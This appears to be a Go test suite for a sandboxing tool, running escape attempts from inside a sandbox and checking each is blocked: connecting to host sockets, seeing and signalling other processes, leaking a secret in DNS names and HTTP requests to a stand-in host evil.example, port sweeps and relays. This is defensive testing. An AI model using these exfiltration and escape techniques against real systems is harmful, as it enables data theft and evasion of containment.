package siege

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"bottled/attack"
	"bottled/netns"
)

// TestAttackHostSockets looks for every socket file from inside, and connects to each that
// is not the agent's own: none of them may be answered.
func TestAttackHostSockets(t *testing.T) {
	d := newDaemon(t)
	b := d.bottle(t, options{})
	free := place{root: true}.start(t)
	// Sockets as a careless host has them, where everybody may connect.
	for _, path := range []string{filepath.Join(b.dir, "..", "agent.sock"), "/run/bottled-siege-docker.sock", "/var/tmp/bottled-siege.sock"} {
		l, err := net.Listen("unix", path)
		must(t, err)
		must(t, os.Chmod(path, 0o777))
		t.Cleanup(func() { l.Close() })
		connect := order{Op: "connect-unix", Addr: path}
		attack.Stopped(t, "K42", "a socket of the host at "+filepath.Dir(path),
			func(*testing.T) error { _, err := free.do(connect); return err },
			func(*testing.T) error { _, err := b.do(connect); return err })
	}
	found := strings.Fields(b.must(t, order{Op: "sh", Data: "find / -type s 2>/dev/null; true"}).Body)
	attack.Stopped(t, "K42", "every socket file that can be seen",
		func(t *testing.T) error {
			if len(strings.Fields(free.must(t, order{Op: "sh", Data: "find /run /var/tmp -type s 2>/dev/null; true"}).Body)) == 0 {
				return errors.New("there is no socket file on this host")
			}
			_, err := free.do(order{Op: "connect-unix", Addr: "/var/tmp/bottled-siege.sock"})
			return err
		},
		func(t *testing.T) error {
			for _, path := range found {
				if _, err := b.do(order{Op: "connect-unix", Addr: path}); err == nil {
					t.Errorf("%s is answered", path)
					return nil
				}
			}
			return fmt.Errorf("%d are seen, none is answered", len(found))
		})
	for _, path := range []string{"/run/systemd/resolve/io.systemd.Resolve", "/run/dbus/system_bus_socket", "/run/nscd/socket", "/var/lib/sss/pipes/nss"} {
		made := standIn(t, path)
		connect := order{Op: "connect-unix", Addr: path}
		attack.Stopped(t, "D09", path,
			func(*testing.T) error { _, err := free.do(connect); return errors.Join(err, made) },
			func(*testing.T) error { _, err := b.do(connect); return err })
	}
}

// standIn makes a socket at the path if there is none, for the time of the test.
func standIn(t *testing.T, path string) error {
	t.Helper()
	if _, err := os.Stat(path); err == nil {
		return nil
	}
	dir := filepath.Dir(path)
	for missing := dir; ; missing = filepath.Dir(missing) {
		if _, err := os.Stat(filepath.Dir(missing)); err == nil {
			if _, err := os.Stat(missing); err != nil {
				t.Cleanup(func() { os.RemoveAll(missing) })
			}
			break
		}
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	l, err := net.Listen("unix", path)
	if err != nil {
		return err
	}
	t.Cleanup(func() { l.Close() })
	return os.Chmod(path, 0o777)
}

// TestAttackOtherProcesses looks from one bottle for the processes of another, of the daemon
// and of the enforcers.
func TestAttackOtherProcesses(t *testing.T) {
	d := newDaemon(t)
	a, b := d.bottle(t, options{}), d.bottle(t, options{}) // the same user: nothing but the namespaces is between them
	free := outside(t)
	for name, pid := range map[string]int{"another bottle of the same user": b.PID, "the daemon": d.cmd.Process.Pid, "its own enforcer": a.WorkerPID, "another's enforcer": b.WorkerPID} {
		o := order{Op: "sh", Data: fmt.Sprintf("grep -H . /proc/%d/comm", pid)}
		attack.Stopped(t, "K48", name,
			func(*testing.T) error { _, err := free.do(o); return err },
			func(*testing.T) error { _, err := a.do(o); return err })
		kill := order{Op: "sh", Data: fmt.Sprintf("kill -0 %d", pid)}
		root := place{root: true}.start(t)
		attack.Stopped(t, "K48", "a signal to "+name,
			func(*testing.T) error { _, err := root.do(kill); return err },
			func(*testing.T) error { _, err := a.do(kill); return err })
	}
	// All that is seen is of its own namespace: as many processes as its init has.
	seen := a.must(t, order{Op: "sh", Data: "cat /proc/[0-9]*/comm"}).Body
	if strings.Contains(seen, "bottled-worker") || strings.Contains(seen, daemonArg0) {
		t.Errorf("the bottle sees %q", seen)
	}
}

// TestAttackDeniedNames asks for names that are not allowed, with a secret in them, in all
// the ways in which an enforcer could look one up.
func TestAttackDeniedNames(t *testing.T) {
	d := newDaemon(t)
	b := d.bottle(t, options{})
	free := outside(t)
	asked := func(secret string) bool { return strings.Contains(strings.Join(world.names.Asked(), " "), secret) }
	for name, o := range map[string]order{
		"over TLS":         {Op: "get", URL: "https://%s.evil.example/"},
		"in the clear":     {Op: "get", URL: "http://%s.evil.example/"},
		"in Host":          {Op: "get", URL: "http://" + allowedHost + "/", Header: map[string]string{"Host": "%s.evil.example"}},
		"of the magic one": {Op: "get", URL: "http://_egress-proxy.local.%s.evil.example/"},
		"by DNS":           {Op: "lookup", Addr: "%s.evil.example"},
		"in CONNECT":       {Op: "dial", Network: "tcp", Addr: "egress-proxy:80", Data: "CONNECT %s.evil.example:443 HTTP/1.1\r\nHost: %[1]s.evil.example\r\n\r\n"},
		"in absolute form": {Op: "dial", Network: "tcp", Addr: "egress-proxy:80", Data: "GET http://%s.evil.example/ HTTP/1.1\r\nHost: %[1]s.evil.example\r\n\r\n"},
	} {
		with := func(secret string) order {
			o := o
			put := func(s string) string {
				return strings.NewReplacer("%s", secret, "%[1]s", secret).Replace(s)
			}
			o.URL, o.Addr, o.Data = put(o.URL), put(o.Addr), put(o.Data)
			if o.Header != nil {
				o.Header = map[string]string{"Host": put(o.Header["Host"])}
			}
			return o
		}
		slug := strings.ReplaceAll(strings.ToLower(name), " ", "-")
		attack.Stopped(t, "D06", "a secret in a name "+name,
			func(*testing.T) error {
				_, _ = free.do(order{Op: "lookup", Addr: "control-" + slug + ".evil.example"})
				if !asked("control-" + slug) {
					return errors.New("the name server was not asked")
				}
				return nil
			},
			func(*testing.T) error {
				_, said := b.do(with("secret-" + slug))
				if asked("secret-" + slug) {
					return nil
				}
				return fmt.Errorf("the name server was asked nothing; the program saw: %v", said)
			})
	}
	// The audit log's own look at addresses: no reverse question was ever asked.
	if asked("in-addr.arpa") || asked("ip6.arpa") {
		t.Errorf("asked: %v", world.names.Asked())
	}
}

// TestAttackQuietPrograms waits for the server to speak, relays for each other, and talks to
// the enforcer's own address.
func TestAttackQuietPrograms(t *testing.T) {
	d := newDaemon(t)
	b := d.bottle(t, options{})
	free := outside(t)
	banner := func(who *agent, tg target) attack.Probe {
		return func(*testing.T) error {
			m := tg.mark()
			said, err := who.do(order{Op: "dial", Network: "tcp4", N: bannerPort, Target: tg})
			if tg.since(m, attackPatience) == nil || strings.Contains(said.Body, "220") {
				return nil
			}
			return fmt.Errorf("no banner: %v", err)
		}
	}
	attack.Stopped(t, "T03", "a server that speaks first", banner(free, control), banner(b.agent, forbidden))
	opened := world.banner.calls.Load()
	_, _ = b.do(order{Op: "dial", Network: "tcp4", Addr: fmt.Sprintf("%s:%d", allowedHost, bannerPort)})
	if world.banner.calls.Load() != opened {
		t.Error("a connection to an allowed host's other port was dialled before a word was said")
	}

	relayed := func(who *agent, tg target) attack.Probe {
		return func(t *testing.T) error {
			at := who.must(t, order{Op: "relay", Target: tg}).Body
			return who.reaches(order{Op: "dial", Network: "tcp", Addr: at, Data: "canary"}, tg)(t)
		}
	}
	attack.Stopped(t, "T13", "through another program", relayed(free, control), relayed(b.agent, forbidden))
	sweep := order{Op: "sweep", N: scaled(997, 1)}
	attack.Stopped(t, "T01", "sweep of the ports", free.reaches(sweep, control), b.reaches(sweep, forbidden))

	plan := netns.Default()
	fds, dialled := descriptorsOf(t, b.WorkerPID), world.upstream.Opened()
	for _, listener := range []netip.AddrPort{plan.Proxy4, plan.Proxy6} {
		knock := order{Op: "dial", Network: "tcp", Addr: listener.String(), Data: "GET / HTTP/1.0\r\n\r\n"}
		attack.Stopped(t, "K24", "the enforcer's own listener, "+listener.String(),
			func(*testing.T) error {
				knock := knock
				knock.Addr = netip.AddrPortFrom(allowedAddr4, 80).String()
				_, err := free.do(knock)
				return err
			},
			func(t *testing.T) error {
				var said answerOf
				var err error
				for range scaled(50, 1000) {
					said, err = b.do(knock)
				}
				if world.upstream.Opened() > dialled {
					return nil
				}
				eventually(t, "the enforcer has closed them all", patience, func() bool { return descriptorsOf(t, b.WorkerPID) <= fds+4 })
				return fmt.Errorf("nothing was dialled; the program saw %q, %v", said.Body, err)
			})
	}
}
